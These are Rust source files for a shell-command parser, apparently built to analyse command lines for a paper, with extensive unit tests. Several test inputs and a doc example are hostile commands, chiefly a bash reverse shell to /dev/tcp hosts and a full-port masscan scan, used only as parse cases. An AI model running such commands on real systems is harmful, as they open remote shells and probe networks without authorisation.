            // `0>&1`: the duplicate target may itself be an io-number-ish
            // digit word; the lexer only yields IoNumber before `<`/`>`,
            // so a bare digit here arrives as a Word already. A following
            // IoNumber can only occur in `>&2>` chains; accept the digits.
            Some(Token::IoNumber(_)) => {
                let Some(Token::IoNumber(n)) = self.bump() else {
                    unreachable!("peeked an io number")
                };
                Ok(Word::plain(n.to_string()))
            }
            _ => Err(ParseError::MissingRedirectTarget {
                operator: op.as_str().to_string(),
            }),
        }
    }
}

/// Interprets a word as `NAME=value` if it has the shape of an assignment.
fn as_assignment(w: &Word) -> Option<Assignment> {
    if w.quoting != Quoting::None && w.quoting != Quoting::Mixed {
        return None;
    }
    let eq = w.text.find('=')?;
    let name = &w.text[..eq];
    if name.is_empty() {
        return None;
    }
    let mut chars = name.chars();
    let first = chars.next().expect("non-empty name");
    if !(first.is_ascii_alphabetic() || first == '_') {
        return None;
    }
    if !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    Some(Assignment {
        name: name.to_string(),
        value: w.text[eq + 1..].to_string(),
        raw: w.raw.clone(),
        units: w.units.clone(),
    })
}

// ---------------------------------------------------------------------------
// Post-pass 1: here-document body assignment (FIFO, source order).
// ---------------------------------------------------------------------------

fn assign_heredocs_script(script: &mut Script, bodies: &mut VecDeque<String>) {
    for list in &mut script.lists {
        assign_heredocs_pipeline(&mut list.first, bodies);
        for (_, p) in &mut list.rest {
            assign_heredocs_pipeline(p, bodies);
        }
    }
}

fn assign_heredocs_pipeline(p: &mut Pipeline, bodies: &mut VecDeque<String>) {
    for cmd in &mut p.commands {
        assign_heredocs_command(cmd, bodies);
    }
}

fn assign_heredocs_command(cmd: &mut Command, bodies: &mut VecDeque<String>) {
    match cmd {
        Command::Simple(c) => {
            for r in &mut c.redirects {
                if matches!(r.op, RedirectOp::Heredoc | RedirectOp::HeredocStrip)
                    && r.heredoc_body.is_none()
                {
                    r.heredoc_body = bodies.pop_front();
                }
            }
        }
        Command::Subshell(s) | Command::Group(s) => assign_heredocs_script(s, bodies),
        Command::For(f) => assign_heredocs_script(&mut f.body, bodies),
        Command::While(l) => {
            assign_heredocs_script(&mut l.condition, bodies);
            assign_heredocs_script(&mut l.body, bodies);
        }
        Command::If(i) => {
            for (cond, body) in &mut i.branches {
                assign_heredocs_script(cond, bodies);
                assign_heredocs_script(body, bodies);
            }
            if let Some(e) = &mut i.else_body {
                assign_heredocs_script(e, bodies);
            }
        }
        Command::Case(c) => {
            for arm in &mut c.arms {
                assign_heredocs_script(&mut arm.body, bodies);
            }
        }
        Command::FunctionDef(f) => assign_heredocs_command(&mut f.body, bodies),
    }
}

// ---------------------------------------------------------------------------
// Post-pass 2: recursive parsing of captured substitution bodies.
// ---------------------------------------------------------------------------

fn fill_subst_script(script: &mut Script, depth: usize) {
    for list in &mut script.lists {
        fill_subst_pipeline(&mut list.first, depth);
        for (_, p) in &mut list.rest {
            fill_subst_pipeline(p, depth);
        }
    }
}

fn fill_subst_pipeline(p: &mut Pipeline, depth: usize) {
    for cmd in &mut p.commands {
        fill_subst_command(cmd, depth);
    }
}

fn fill_subst_command(cmd: &mut Command, depth: usize) {
    match cmd {
        Command::Simple(c) => {
            for a in &mut c.assignments {
                fill_subst_units(&mut a.units, depth);
            }
            for w in &mut c.words {
                fill_subst_units(&mut w.units, depth);
            }
            for r in &mut c.redirects {
                fill_subst_units(&mut r.target.units, depth);
            }
        }
        Command::Subshell(s) | Command::Group(s) => fill_subst_script(s, depth),
        Command::For(f) => {
            fill_subst_units(&mut f.var.units, depth);
            if let Some(words) = &mut f.words {
                for w in words {
                    fill_subst_units(&mut w.units, depth);
                }
            }
            fill_subst_script(&mut f.body, depth);
        }
        Command::While(l) => {
            fill_subst_script(&mut l.condition, depth);
            fill_subst_script(&mut l.body, depth);
        }
        Command::If(i) => {
            for (cond, body) in &mut i.branches {
                fill_subst_script(cond, depth);
                fill_subst_script(body, depth);
            }
            if let Some(e) = &mut i.else_body {
                fill_subst_script(e, depth);
            }
        }
        Command::Case(c) => {
            fill_subst_units(&mut c.subject.units, depth);
            for arm in &mut c.arms {
                for p in &mut arm.patterns {
                    fill_subst_units(&mut p.units, depth);
                }
                fill_subst_script(&mut arm.body, depth);
            }
        }
        Command::FunctionDef(f) => fill_subst_command(&mut f.body, depth),
    }
}

fn fill_subst_units(units: &mut [WordUnit], depth: usize) {
    for u in units {
        match u {
            WordUnit::CommandSubst(s) | WordUnit::Backquoted(s) => fill_subst(s, depth),
            WordUnit::ProcessSubst { subst, .. } => fill_subst(subst, depth),
            WordUnit::DoubleQuoted(inner) => fill_subst_units(inner, depth),
            _ => {}
        }
    }
}

/// Parses a substitution body at `depth + 1`. Inner parse failures are
/// deliberately swallowed — a substitution body Bash would reject does
/// not invalidate the surrounding line for our purposes (the old
/// grammar accepted any balanced body), it just stays opaque.
fn fill_subst(s: &mut Substitution, depth: usize) {
    if depth >= MAX_SUBST_DEPTH || s.script.is_some() {
        return;
    }
    if let Ok(tokens) = Lexer::tokenize(&s.body) {
        if let Ok(parsed) = Parser::with_depth(tokens, depth + 1).parse_script() {
            s.script = Some(Box::new(parsed));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn single_command() {
        let s = parse("vim ~/.bashrc").unwrap();
        assert_eq!(s.lists.len(), 1);
        assert_eq!(s.command_names(), vec!["vim"]);
    }

    #[test]
    fn pipeline_chain() {
        let s = parse("cat /etc/passwd | grep root | wc -l").unwrap();
        assert_eq!(s.lists[0].first.commands.len(), 3);
    }

    #[test]
    fn and_or_list() {
        let s = parse("make && make install || echo failed").unwrap();
        let list = &s.lists[0];
        assert_eq!(list.rest.len(), 2);
        assert_eq!(list.rest[0].0, Connector::AndIf);
        assert_eq!(list.rest[1].0, Connector::OrIf);
    }

    #[test]
    fn pipe_binds_tighter_than_and_or() {
        // `a | b && c | d` must group as (a|b) && (c|d).
        let s = parse("cat f | grep x && sort g | uniq").unwrap();
        let list = &s.lists[0];
        assert_eq!(list.first.commands.len(), 2);
        assert_eq!(list.rest.len(), 1);
        assert_eq!(list.rest[0].1.commands.len(), 2);
    }

    #[test]
    fn semicolon_separated_lists() {
        let s = parse("cd /tmp; ls; pwd").unwrap();
        assert_eq!(s.lists.len(), 3);
    }

    #[test]
    fn newline_separated_lists() {
        let s = parse("cd /tmp\nls\npwd").unwrap();
        assert_eq!(s.lists.len(), 3);
    }

    #[test]
    fn background_marker() {
        let s = parse("sleep 100 &").unwrap();
        assert!(s.lists[0].background);
        let s2 = parse("sleep 1 & echo hi").unwrap();
        assert!(s2.lists[0].background);
        assert!(!s2.lists[1].background);
    }

    #[test]
    fn reverse_shell_redirects() {
        // The paper's Table III in-box example.
        let s = parse("bash -i >& /dev/tcp/1.2.3.4/9001 0>&1").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.name(), Some("bash"));
        assert_eq!(cmd.redirects.len(), 2);
        assert_eq!(cmd.redirects[0].op, RedirectOp::DupOut);
        assert_eq!(cmd.redirects[0].fd, None);
        assert_eq!(cmd.redirects[1].fd, Some(0));
        assert_eq!(cmd.redirects[1].op, RedirectOp::DupOut);
        assert_eq!(cmd.redirects[1].target.text, "1");
    }

    #[test]
    fn fd_redirect() {
        let s = parse("cmd 2>/dev/null").unwrap();
        let r = &s.simple_commands()[0].redirects[0];
        assert_eq!(r.fd, Some(2));
        assert_eq!(r.op, RedirectOp::Out);
        assert_eq!(r.target.text, "/dev/null");
    }

    #[test]
    fn dangling_redirect_is_error() {
        // The paper's invalid example: `/*/*/* -> /*/*/* ->`.
        let err = parse("/*/*/* -> /*/*/* ->").unwrap_err();
        assert!(matches!(err, ParseError::MissingRedirectTarget { .. }));
    }

    #[test]
    fn append_redirect() {
        let s = parse("masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.redirects[0].op, RedirectOp::Append);
        assert_eq!(cmd.redirects[0].target.text, "tmp.txt");
    }

    #[test]
    fn leading_pipe_is_error() {
        assert!(matches!(
            parse("| grep x"),
            Err(ParseError::UnexpectedOperator { .. })
        ));
    }

    #[test]
    fn trailing_and_is_error() {
        assert_eq!(parse("ls &&"), Err(ParseError::UnexpectedEnd));
    }

    #[test]
    fn double_pipe_without_command_is_error() {
        assert!(parse("ls | | wc").is_err());
    }

    #[test]
    fn empty_line_is_error() {
        assert_eq!(parse(""), Err(ParseError::Empty));
        assert_eq!(parse("   "), Err(ParseError::Empty));
        assert_eq!(parse("# nothing"), Err(ParseError::Empty));
        assert_eq!(parse("\n\n"), Err(ParseError::Empty));
    }

    #[test]
    fn leading_semicolon_is_error() {
        assert!(matches!(
            parse("; ls"),
            Err(ParseError::UnexpectedOperator { .. })
        ));
    }

    #[test]
    fn subshell() {
        let s = parse("(cd /tmp && tar xf a.tar)").unwrap();
        match &s.lists[0].first.commands[0] {
            Command::Subshell(inner) => assert_eq!(inner.command_names(), vec!["cd", "tar"]),
            other => panic!("expected subshell, got {other:?}"),
        }
    }

    #[test]
    fn unclosed_subshell_is_error() {
        assert!(matches!(
            parse("(ls"),
            Err(ParseError::UnclosedGroup { delimiter: '(' })
        ));
    }

    #[test]
    fn unbalanced_close_is_error() {
        assert!(matches!(
            parse("ls)"),
            Err(ParseError::UnbalancedGroup { delimiter: ')' })
        ));
    }

    #[test]
    fn brace_group() {
        let s = parse("{ echo a; echo b; }").unwrap();
        match &s.lists[0].first.commands[0] {
            Command::Group(inner) => assert_eq!(inner.command_names(), vec!["echo", "echo"]),
            other => panic!("expected group, got {other:?}"),
        }
    }

    #[test]
    fn unclosed_brace_group_is_error() {
        assert!(matches!(
            parse("{ echo a;"),
            Err(ParseError::UnclosedGroup { delimiter: '{' })
        ));
    }

    #[test]
    fn assignment_prefix() {
        let s = parse("PATH=/usr/bin ls").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.assignments.len(), 1);
        assert_eq!(cmd.assignments[0].name, "PATH");
        assert_eq!(cmd.assignments[0].value, "/usr/bin");
        assert_eq!(cmd.name(), Some("ls"));
    }

    #[test]
    fn assignment_after_name_is_argument() {
        let s = parse("env FOO=bar").unwrap();
        let cmd = s.simple_commands()[0];
        // `env` sees FOO=bar as a word, not an assignment prefix.
        assert!(cmd.assignments.is_empty());
        assert_eq!(cmd.words.len(), 2);
    }

    #[test]
    fn export_proxy_example() {
        let s = parse(r#"export https_proxy="socks5://10.0.0.5:1080""#).unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.name(), Some("export"));
        assert_eq!(cmd.words[1].text, "https_proxy=socks5://10.0.0.5:1080");
    }

    #[test]
    fn negated_pipeline() {
        let s = parse("! grep -q root /etc/passwd").unwrap();
        assert!(s.lists[0].first.negated);
        assert_eq!(s.command_names(), vec!["grep"]);
    }

    #[test]
    fn herestring_target() {
        let s = parse("base64 -d <<< aGVsbG8=").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.redirects[0].op, RedirectOp::HereString);
        assert_eq!(cmd.redirects[0].target.text, "aGVsbG8=");
    }

    #[test]
    fn watch_nvidia_smi_example() {
        // Figure 1's inference-side example.
        let s = parse("watch -n 1 nvidia-smi").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.name(), Some("watch"));
        let flags: Vec<_> = cmd.flags().map(|w| w.text.as_str()).collect();
        assert_eq!(flags, vec!["-n"]);
    }

    #[test]
    fn double_semi_is_error_outside_case() {
        assert!(parse("ls ;; pwd").is_err());
    }

    #[test]
    fn heredoc_body_attaches_to_redirect() {
        let s = parse("cat << EOF\nline one\nline two\nEOF").unwrap();
        let r = &s.simple_commands()[0].redirects[0];
        assert_eq!(r.op, RedirectOp::Heredoc);
        assert_eq!(r.target.text, "EOF");
        assert_eq!(r.heredoc_body.as_deref(), Some("line one\nline two\n"));
    }

    #[test]
    fn heredoc_without_body_stays_none() {
        // Prompt-style fragment: the operator line alone.
        let s = parse("cat << EOF").unwrap();
        let r = &s.simple_commands()[0].redirects[0];
        assert_eq!(r.heredoc_body, None);
    }

    #[test]
    fn two_heredocs_assign_fifo() {
        let s = parse("diff <(cat) /dev/stdin <<A <<B\none\nA\ntwo\nB").unwrap();
        let rs = &s.simple_commands()[0].redirects;
        assert_eq!(rs[0].heredoc_body.as_deref(), Some("one\n"));
        assert_eq!(rs[1].heredoc_body.as_deref(), Some("two\n"));
    }

    #[test]
    fn heredoc_strip_tabs() {
        let s = parse("cat <<- EOF\n\tindented\n\tEOF").unwrap();
        let r = &s.simple_commands()[0].redirects[0];
        assert_eq!(r.op, RedirectOp::HeredocStrip);
        assert_eq!(r.heredoc_body.as_deref(), Some("indented\n"));
    }

    #[test]
    fn for_loop() {
        let s = parse("for f in a.txt b.txt; do cat $f; done").unwrap();
        let Command::For(f) = &s.lists[0].first.commands[0] else {
            panic!("expected for loop");
        };
        assert_eq!(f.var.text, "f");
        assert_eq!(f.words.as_ref().unwrap().len(), 2);
        assert_eq!(f.body.command_names(), vec!["cat"]);
        // body commands are visible to the whole-script views
        assert_eq!(s.command_names(), vec!["cat"]);
    }

    #[test]
    fn for_loop_without_in() {
        let s = parse("for arg; do echo $arg; done").unwrap();
        let Command::For(f) = &s.lists[0].first.commands[0] else {
            panic!("expected for loop");
        };
        assert!(f.words.is_none());
    }

    #[test]
    fn while_loop() {
        let s = parse("while true; do sleep 1; done").unwrap();
        let Command::While(l) = &s.lists[0].first.commands[0] else {
            panic!("expected while loop");
        };
        assert!(!l.until);
        assert_eq!(l.condition.command_names(), vec!["true"]);
        assert_eq!(l.body.command_names(), vec!["sleep"]);
    }

    #[test]
    fn until_loop() {
        let s = parse("until ping -c1 host; do sleep 5; done").unwrap();
        let Command::While(l) = &s.lists[0].first.commands[0] else {
            panic!("expected until loop");
        };
        assert!(l.until);
    }

    #[test]
    fn if_elif_else() {
        let s =
            parse("if test -f x; then cat x; elif test -d x; then ls x; else echo no; fi").unwrap();
        let Command::If(i) = &s.lists[0].first.commands[0] else {
            panic!("expected if");
        };
        assert_eq!(i.branches.len(), 2);
        assert!(i.else_body.is_some());
        assert_eq!(s.command_names(), vec!["test", "cat", "test", "ls", "echo"]);
    }

    #[test]
    fn case_dispatch() {
        let s = parse("case $1 in start) run ;; stop|halt) kill ;; *) usage ;; esac").unwrap();
        let Command::Case(c) = &s.lists[0].first.commands[0] else {
            panic!("expected case");
        };
        assert_eq!(c.subject.text, "$1");
        assert_eq!(c.arms.len(), 3);
        assert_eq!(c.arms[1].patterns.len(), 2);
        assert_eq!(s.command_names(), vec!["run", "kill", "usage"]);
    }

    #[test]
    fn case_arm_with_empty_body() {
        let s = parse("case x in a) ;; b) echo b ;; esac").unwrap();
        let Command::Case(c) = &s.lists[0].first.commands[0] else {
            panic!("expected case");
        };
        assert!(c.arms[0].body.lists.is_empty());
        assert_eq!(c.arms[1].body.command_names(), vec!["echo"]);
    }

    #[test]
    fn posix_function_definition() {
        let s = parse("cleanup() { rm -rf /tmp/work; }").unwrap();
        let Command::FunctionDef(f) = &s.lists[0].first.commands[0] else {
            panic!("expected function def");
        };
        assert_eq!(f.name.text, "cleanup");
        assert_eq!(s.command_names(), vec!["rm"]);
    }

    #[test]
    fn function_keyword_definition() {
        let s = parse("function cleanup { rm -rf /tmp/work; }").unwrap();
        let Command::FunctionDef(f) = &s.lists[0].first.commands[0] else {
            panic!("expected function def");
        };
        assert_eq!(f.name.text, "cleanup");
    }

    #[test]
    fn misplaced_keywords_error() {
        for kw in ["then", "else", "elif", "fi", "do", "done", "esac"] {
            assert_eq!(
                parse(kw),
                Err(ParseError::MisplacedKeyword {
                    keyword: kw.to_string()
                }),
                "keyword {kw} should be misplaced at command position"
            );
        }
    }

    #[test]
    fn keywords_are_plain_words_as_arguments() {
        let s = parse("echo do not stop until done").unwrap();
        assert_eq!(s.simple_commands()[0].words.len(), 6);
    }

    #[test]
    fn if_without_then_is_missing_keyword() {
        assert_eq!(
            parse("if true; fi"),
            Err(ParseError::MissingKeyword {
                keyword: "then".into()
            })
        );
    }

    #[test]
    fn empty_loop_body_is_error() {
        assert!(parse("while true; do done").is_err());
        assert!(parse("for x in a; do ; done").is_err());
    }

    #[test]
    fn substitution_bodies_are_recursively_parsed() {
        let s = parse("echo $(ls /tmp | wc -l)").unwrap();
        let w = &s.simple_commands()[0].words[1];
        let WordUnit::CommandSubst(sub) = &w.units[0] else {
            panic!("expected command substitution, got {:?}", w.units);
        };
        let inner = sub.script.as_ref().expect("inner script parsed");
        assert_eq!(inner.command_names(), vec!["ls", "wc"]);
    }

    #[test]
    fn nested_substitution_parses_both_levels() {
        let s = parse("echo $(echo $(date))").unwrap();
        let w = &s.simple_commands()[0].words[1];
        let WordUnit::CommandSubst(outer) = &w.units[0] else {
            panic!("expected command substitution");
        };
        let inner_script = outer.script.as_ref().unwrap();
        let inner_word = &inner_script.simple_commands()[0].words[1];
        let WordUnit::CommandSubst(inner) = &inner_word.units[0] else {
            panic!("expected nested substitution");
        };
        assert_eq!(inner.script.as_ref().unwrap().command_names(), vec!["date"]);
    }

    #[test]
    fn invalid_substitution_body_stays_opaque() {
        // `$(|)` has an invalid body; the line itself stays parseable.
        let s = parse("echo $(|)").unwrap();
        let w = &s.simple_commands()[0].words[1];
        let WordUnit::CommandSubst(sub) = &w.units[0] else {
            panic!("expected command substitution");
        };
        assert!(sub.script.is_none());
    }
}
