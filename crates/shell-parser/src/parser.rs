//! Recursive-descent parser from [`Token`]s to a [`Script`].

use crate::ast::{
    AndOrList, Assignment, Command, Connector, Pipeline, Redirect, RedirectOp, Script,
    SimpleCommand,
};
use crate::error::ParseError;
use crate::lexer::Lexer;
use crate::token::{Operator, Quoting, Token, Word};

/// Parses a command line into a [`Script`].
///
/// This is the crate's main entry point.
///
/// ```
/// use shell_parser::parse;
/// let script = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")?;
/// assert_eq!(script.command_names(), vec!["bash"]);
/// # Ok::<(), shell_parser::ParseError>(())
/// ```
///
/// # Errors
///
/// Returns [`ParseError`] for lines Bash could not execute: lex-level
/// failures (unterminated quotes), dangling redirections, misplaced
/// operators, unbalanced groups, or an empty line.
pub fn parse(input: &str) -> Result<Script, ParseError> {
    let tokens = Lexer::tokenize(input)?;
    Parser::new(tokens).parse_script()
}

/// Token-stream parser. Construct with [`Parser::new`], consume with
/// [`Parser::parse_script`].
#[derive(Debug)]
pub struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    /// Creates a parser over a token stream.
    pub fn new(tokens: Vec<Token>) -> Self {
        Parser { tokens, pos: 0 }
    }

    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.pos)
    }

    fn peek_op(&self) -> Option<Operator> {
        self.peek().and_then(|t| t.as_op())
    }

    fn bump(&mut self) -> Option<Token> {
        let t = self.tokens.get(self.pos).cloned();
        if t.is_some() {
            self.pos += 1;
        }
        t
    }

    /// Parses the whole token stream as a script.
    ///
    /// # Errors
    ///
    /// See [`parse`].
    pub fn parse_script(&mut self) -> Result<Script, ParseError> {
        let script = self.parse_script_until(None)?;
        if let Some(tok) = self.peek() {
            // A leftover `)` means an unbalanced group.
            if tok.as_op() == Some(Operator::RParen) {
                return Err(ParseError::UnbalancedGroup { delimiter: ')' });
            }
            return Err(ParseError::UnexpectedOperator {
                operator: tok.to_string(),
            });
        }
        Ok(script)
    }

    /// Parses lists until `stop` (a group closer) or end of input.
    fn parse_script_until(&mut self, stop: Option<Operator>) -> Result<Script, ParseError> {
        let mut lists = Vec::new();
        loop {
            // Skip leading separators between lists.
            while matches!(self.peek_op(), Some(Operator::Semi)) {
                if lists.is_empty() {
                    return Err(ParseError::UnexpectedOperator {
                        operator: ";".into(),
                    });
                }
                self.bump();
            }
            match self.peek() {
                None => break,
                Some(tok) if stop.is_some() && tok.as_op() == stop => break,
                _ => {}
            }
            let mut list = self.parse_and_or()?;
            // Separator / background marker after the list.
            match self.peek_op() {
                Some(Operator::Semi) => {
                    self.bump();
                }
                Some(Operator::Amp) => {
                    list.background = true;
                    self.bump();
                }
                _ => {}
            }
            lists.push(list);
            // If no separator was consumed and the next token is not the
            // stop, the loop will either parse another list (invalid;
            // caught as unexpected word-after-word is impossible since
            // words merge) or hit an operator error below.
            match self.peek() {
                None => break,
                Some(tok) if stop.is_some() && tok.as_op() == stop => break,
                Some(Token::Op(Operator::Semi)) | Some(Token::Op(Operator::Amp)) => {}
                Some(Token::Word(_)) | Some(Token::IoNumber(_)) => {}
                Some(Token::Op(Operator::RParen)) => {
                    return Err(ParseError::UnbalancedGroup { delimiter: ')' })
                }
                Some(tok) => {
                    return Err(ParseError::UnexpectedOperator {
                        operator: tok.to_string(),
                    })
                }
            }
        }
        if lists.is_empty() {
            return Err(ParseError::Empty);
        }
        Ok(Script { lists })
    }

    fn parse_and_or(&mut self) -> Result<AndOrList, ParseError> {
        let first = self.parse_pipeline()?;
        let mut rest = Vec::new();
        loop {
            let connector = match self.peek_op() {
                Some(Operator::AndIf) => Connector::AndIf,
                Some(Operator::OrIf) => Connector::OrIf,
                _ => break,
            };
            self.bump();
            let pipeline = self.parse_pipeline()?;
            rest.push((connector, pipeline));
        }
        Ok(AndOrList {
            first,
            rest,
            background: false,
        })
    }

    fn parse_pipeline(&mut self) -> Result<Pipeline, ParseError> {
        let mut negated = false;
        if let Some(Token::Word(w)) = self.peek() {
            if w.text == "!" && w.quoting == Quoting::None {
                negated = true;
                self.bump();
            }
        }
        let mut commands = vec![self.parse_command()?];
        while matches!(
            self.peek_op(),
            Some(Operator::Pipe) | Some(Operator::PipeAmp)
        ) {
            self.bump();
            commands.push(self.parse_command()?);
        }
        Ok(Pipeline { negated, commands })
    }

    fn parse_command(&mut self) -> Result<Command, ParseError> {
        match self.peek() {
            Some(Token::Op(Operator::LParen)) => {
                self.bump();
                let inner = self.parse_script_until(Some(Operator::RParen))?;
                match self.peek_op() {
                    Some(Operator::RParen) => {
                        self.bump();
                        Ok(Command::Subshell(Box::new(inner)))
                    }
                    _ => Err(ParseError::UnclosedGroup { delimiter: '(' }),
                }
            }
            Some(Token::Word(w)) if w.text == "{" && w.quoting == Quoting::None => {
                self.parse_brace_group()
            }
            _ => self.parse_simple_command().map(Command::Simple),
        }
    }

    fn parse_brace_group(&mut self) -> Result<Command, ParseError> {
        self.bump(); // consume `{`
                     // Find the matching `}` word at this nesting level by parsing
                     // until we encounter it; the lexer emits `{`/`}` as plain words,
                     // so we scan for the closer and re-parse the inner tokens.
        let start = self.pos;
        let mut depth = 1usize;
        while let Some(tok) = self.tokens.get(self.pos) {
            if let Token::Word(w) = tok {
                if w.quoting == Quoting::None {
                    if w.text == "{" {
                        depth += 1;
                    } else if w.text == "}" {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                }
            }
            self.pos += 1;
        }
        if depth != 0 {
            return Err(ParseError::UnclosedGroup { delimiter: '{' });
        }
        let inner_tokens: Vec<Token> = self.tokens[start..self.pos].to_vec();
        self.pos += 1; // consume `}`
        let inner = Parser::new(inner_tokens).parse_script()?;
        Ok(Command::Group(Box::new(inner)))
    }

    fn parse_simple_command(&mut self) -> Result<SimpleCommand, ParseError> {
        let mut cmd = SimpleCommand::default();
        let mut seen_word = false;
        loop {
            match self.peek() {
                Some(Token::Word(_)) => {
                    let Some(Token::Word(w)) = self.bump() else {
                        unreachable!("peeked a word")
                    };
                    // Assignment prefixes may only precede the command name.
                    if !seen_word {
                        if let Some(a) = as_assignment(&w) {
                            cmd.assignments.push(a);
                            continue;
                        }
                    }
                    seen_word = true;
                    cmd.words.push(w);
                }
                Some(Token::IoNumber(_)) => {
                    let Some(Token::IoNumber(fd)) = self.bump() else {
                        unreachable!("peeked an io number")
                    };
                    let op = self.expect_redirect_op()?;
                    let target = self.expect_redirect_target(op)?;
                    cmd.redirects.push(Redirect {
                        fd: Some(fd),
                        op,
                        target,
                    });
                }
                Some(Token::Op(op)) if op.is_redirect() => {
                    let op = *op;
                    self.bump();
                    let rop =
                        RedirectOp::from_operator(op).expect("is_redirect implies conversion");
                    let target = self.expect_redirect_target(rop)?;
                    cmd.redirects.push(Redirect {
                        fd: None,
                        op: rop,
                        target,
                    });
                }
                _ => break,
            }
        }
        if cmd.words.is_empty() && cmd.assignments.is_empty() && cmd.redirects.is_empty() {
            return match self.peek() {
                Some(tok) => Err(ParseError::UnexpectedOperator {
                    operator: tok.to_string(),
                }),
                None => Err(ParseError::UnexpectedEnd),
            };
        }
        Ok(cmd)
    }

    fn expect_redirect_op(&mut self) -> Result<RedirectOp, ParseError> {
        match self.peek_op().and_then(RedirectOp::from_operator) {
            Some(op) => {
                self.bump();
                Ok(op)
            }
            None => match self.peek() {
                Some(tok) => Err(ParseError::UnexpectedOperator {
                    operator: tok.to_string(),
                }),
                None => Err(ParseError::UnexpectedEnd),
            },
        }
    }

    fn expect_redirect_target(&mut self, op: RedirectOp) -> Result<Word, ParseError> {
        match self.peek() {
            Some(Token::Word(_)) => {
                let Some(Token::Word(w)) = self.bump() else {
                    unreachable!("peeked a word")
                };
                Ok(w)
            }
            // `0>&1`: the duplicate target may itself be an io-number-ish
            // digit word; the lexer only yields IoNumber before `<`/`>`,
            // so a bare digit here arrives as a Word already. A following
            // IoNumber can only occur in `>&2>` chains; accept the digits.
            Some(Token::IoNumber(_)) => {
                let Some(Token::IoNumber(n)) = self.bump() else {
                    unreachable!("peeked an io number")
                };
                Ok(Word::plain(n.to_string()))
            }
            _ => Err(ParseError::MissingRedirectTarget {
                operator: op.as_str().to_string(),
            }),
        }
    }
}

/// Interprets a word as `NAME=value` if it has the shape of an assignment.
fn as_assignment(w: &Word) -> Option<Assignment> {
    if w.quoting != Quoting::None && w.quoting != Quoting::Mixed {
        return None;
    }
    let eq = w.text.find('=')?;
    let name = &w.text[..eq];
    if name.is_empty() {
        return None;
    }
    let mut chars = name.chars();
    let first = chars.next().expect("non-empty name");
    if !(first.is_ascii_alphabetic() || first == '_') {
        return None;
    }
    if !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    Some(Assignment {
        name: name.to_string(),
        value: w.text[eq + 1..].to_string(),
        raw: w.raw.clone(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn single_command() {
        let s = parse("vim ~/.bashrc").unwrap();
        assert_eq!(s.lists.len(), 1);
        assert_eq!(s.command_names(), vec!["vim"]);
    }

    #[test]
    fn pipeline_chain() {
        let s = parse("cat /etc/passwd | grep root | wc -l").unwrap();
        assert_eq!(s.lists[0].first.commands.len(), 3);
    }

    #[test]
    fn and_or_list() {
        let s = parse("make && make install || echo failed").unwrap();
        let list = &s.lists[0];
        assert_eq!(list.rest.len(), 2);
        assert_eq!(list.rest[0].0, Connector::AndIf);
        assert_eq!(list.rest[1].0, Connector::OrIf);
    }

    #[test]
    fn semicolon_separated_lists() {
        let s = parse("cd /tmp; ls; pwd").unwrap();
        assert_eq!(s.lists.len(), 3);
    }

    #[test]
    fn background_marker() {
        let s = parse("sleep 100 &").unwrap();
        assert!(s.lists[0].background);
        let s2 = parse("sleep 1 & echo hi").unwrap();
        assert!(s2.lists[0].background);
        assert!(!s2.lists[1].background);
    }

    #[test]
    fn reverse_shell_redirects() {
        // The paper's Table III in-box example.
        let s = parse("bash -i >& /dev/tcp/1.2.3.4/9001 0>&1").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.name(), Some("bash"));
        assert_eq!(cmd.redirects.len(), 2);
        assert_eq!(cmd.redirects[0].op, RedirectOp::DupOut);
        assert_eq!(cmd.redirects[0].fd, None);
        assert_eq!(cmd.redirects[1].fd, Some(0));
        assert_eq!(cmd.redirects[1].op, RedirectOp::DupOut);
        assert_eq!(cmd.redirects[1].target.text, "1");
    }

    #[test]
    fn fd_redirect() {
        let s = parse("cmd 2>/dev/null").unwrap();
        let r = &s.simple_commands()[0].redirects[0];
        assert_eq!(r.fd, Some(2));
        assert_eq!(r.op, RedirectOp::Out);
        assert_eq!(r.target.text, "/dev/null");
    }

    #[test]
    fn dangling_redirect_is_error() {
        // The paper's invalid example: `/*/*/* -> /*/*/* ->`.
        let err = parse("/*/*/* -> /*/*/* ->").unwrap_err();
        assert!(matches!(err, ParseError::MissingRedirectTarget { .. }));
    }

    #[test]
    fn append_redirect() {
        let s = parse("masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt").unwrap();
        let cmd = s.simple_commands()[0];
        assert_eq!(cmd.redirects[0].op, RedirectOp::Append);
        assert_eq!(cmd.redirects[0].target.text, "tmp.txt");
    }

    #[test]
    fn leading_pipe_is_error() {
        assert!(matches!(
            parse("| grep x"),
            Err(ParseError::UnexpectedOperator { .. })
        ));
    }

    #[test]
    fn trailing_and_is_error() {
        assert_eq!(parse("ls &&"), Err(ParseError::UnexpectedEnd));
    }

    #[test]
    fn double_pipe_without_command_is_error() {
        assert!(parse("ls | | wc").is_err());
    }

    #[test]
    fn empty_line_is_error() {
        assert_eq!(parse(""), Err(ParseError::Empty));
        assert_eq!(parse("   "), Err(ParseError::Empty));
        assert_eq!(parse("# nothing"), Err(ParseError::Empty));
    }

    #[test]
    fn leading_semicolon_is_error() {
        assert!(matches!(
            parse("; ls"),
            Err(ParseError::UnexpectedOperator { .. })
        ));
    }

    #[test]
    fn subshell() {
        let s = parse("(cd /tmp && tar xf a.tar)").unwrap();
        match &s.lists[0].first.commands[0] {
            Command::Subshell(inner) => assert_eq!(inner.command_names(), vec!["cd", "tar"]),
            other => panic!("expected subshell, got {other:?}"),
        }
    }

    #[test]
    fn unclosed_subshell_is_error() {
        assert!(matches!(
            parse("(ls"),
            Err(ParseError::UnclosedGroup { delimiter: '(' })
        ));
    }

